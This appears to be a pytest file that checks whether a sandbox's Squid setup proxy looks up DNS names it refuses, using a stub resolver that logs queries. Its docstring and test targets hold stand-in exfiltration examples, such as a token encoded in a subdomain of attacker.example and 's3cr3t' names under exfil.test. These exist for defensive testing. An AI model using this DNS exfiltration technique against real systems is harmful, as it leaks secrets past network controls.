"""The setup proxy looks up no name it would refuse: no DNS channel out of setup (issue 32 #4).

Squid's `dst` rules resolve the name a request asks for; when they came before `allow allowed_hosts`, any name
setup asked for was looked up first, so `http://<token>.attacker.example/` carried the token out in a DNS query
although the request itself was refused. This runs the real proxy image with the real configuration, pointed at
a stub resolver on its loopback that records every query, and asks it for allowed and refused names.
"""

from __future__ import annotations

import docker
import pytest

from sandbox.base import SandboxConfig
from sandbox.setup_proxy import DENIED_NETWORKS, PROXY_PORT, squid_conf

pytestmark = pytest.mark.docker

PROXY_IMAGE = SandboxConfig.model_fields["setup_proxy_image"].default
# A resolver that answers every query with NXDOMAIN and writes its name to /tmp/queries.
STUB = r"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 53))
while True:
    data, peer = s.recvfrom(4096)
    i, labels = 12, []
    while i < len(data) and data[i]:
        labels.append(data[i + 1 : i + 1 + data[i]].decode("ascii", "replace"))
        i += 1 + data[i]
    with open("/tmp/queries", "a") as f:
        f.write(".".join(labels) + "\n")
    reply = data[:2] + bytes([0x81, 0x83]) + data[4:6] + b"\0\0\0\0\0\0" + data[12 : i + 5]
    s.sendto(reply, peer)
"""
# Asks the proxy for each URL (a GET) and each host:443 (a CONNECT), printing the status line it answers.
ASK = r"""
import socket, sys, time
for target in sys.argv[1:]:
    c = socket.create_connection(("127.0.0.1", PORT), timeout=20)
    if target.startswith("http://"):
        c.sendall(f"GET {target} HTTP/1.1\r\nHost: {target.split('/')[2]}\r\n\r\n".encode())
    else:
        c.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    print(target, c.recv(200).split(b"\r\n")[0].decode(), flush=True)
    c.close()
""".replace("PORT", str(PROXY_PORT))
SCRIPT = """
set -e
printf '%s' "$STUB" > /tmp/stub.py && printf '%s' "$ASK" > /tmp/ask.py
python3 /tmp/stub.py & touch /tmp/queries
printf '%s' "$SQUID_CONF" > /tmp/squid.conf
squid -N -f /tmp/squid.conf > /tmp/squid.log 2>&1 &
for i in $(seq 100); do grep -q 'Accepting HTTP' /tmp/squid.log && break; sleep 0.2; done
python3 /tmp/ask.py "$@"
echo ---queries---
sort -u /tmp/queries
"""


def _ask(client: docker.DockerClient, hosts: list[str], targets: list[str]) -> tuple[list[str], list[str]]:
    """The proxy's answer to each target and every name it looked up."""
    conf = squid_conf(hosts, DENIED_NETWORKS) + "dns_nameservers 127.0.0.1\n"
    container = client.containers.run(
        PROXY_IMAGE,
        entrypoint=["sh", "-c", SCRIPT, "proxy-dns", *targets],
        environment={"SQUID_CONF": conf, "STUB": STUB, "ASK": ASK},
        user="proxy",
        network_mode="none",
        sysctls={"net.ipv4.ip_unprivileged_port_start": "0"},
        detach=True,
    )
    try:
        code = container.wait(timeout=120)["StatusCode"]
        out = container.logs().decode("utf-8", "replace")
    finally:
        container.remove(force=True)
    assert code == 0, out
    answers, _, queries = out.partition("---queries---\n")
    return answers.splitlines(), [q for q in queries.splitlines() if q]


@pytest.fixture
def client(docker_client: docker.DockerClient) -> docker.DockerClient:
    try:
        docker_client.images.get(PROXY_IMAGE)
    except docker.errors.ImageNotFound:
        pytest.fail(f"the setup proxy test needs {PROXY_IMAGE}: run scripts/ensure-docker.sh", pytrace=False)
    return docker_client


def test_a_refused_name_is_never_looked_up_and_an_allowed_one_is(client: docker.DockerClient) -> None:
    targets = [
        "http://s3cr3t-get.exfil.test/x",
        "s3cr3t-connect.exfil.test:443",
        "http://s3cr3t-port.exfil.test:8080/",
        "http://198.51.100.77/",  # an address not on the list: no reverse lookup of it either
        "http://pkgs.allowed.test/simple/",
    ]
    answers, queries = _ask(client, [".allowed.test"], targets)
    assert len(answers) == len(targets) and all(" 403 " in a or a.endswith(" 403") for a in answers[:4]), answers
    # the stub is the proxy's resolver: the allowed name reached it (so a refused one would have, too)
    assert any(q == "pkgs.allowed.test" for q in queries), queries
    assert not [q for q in queries if "s3cr3t" in q or "exfil" in q or "in-addr" in q], queries
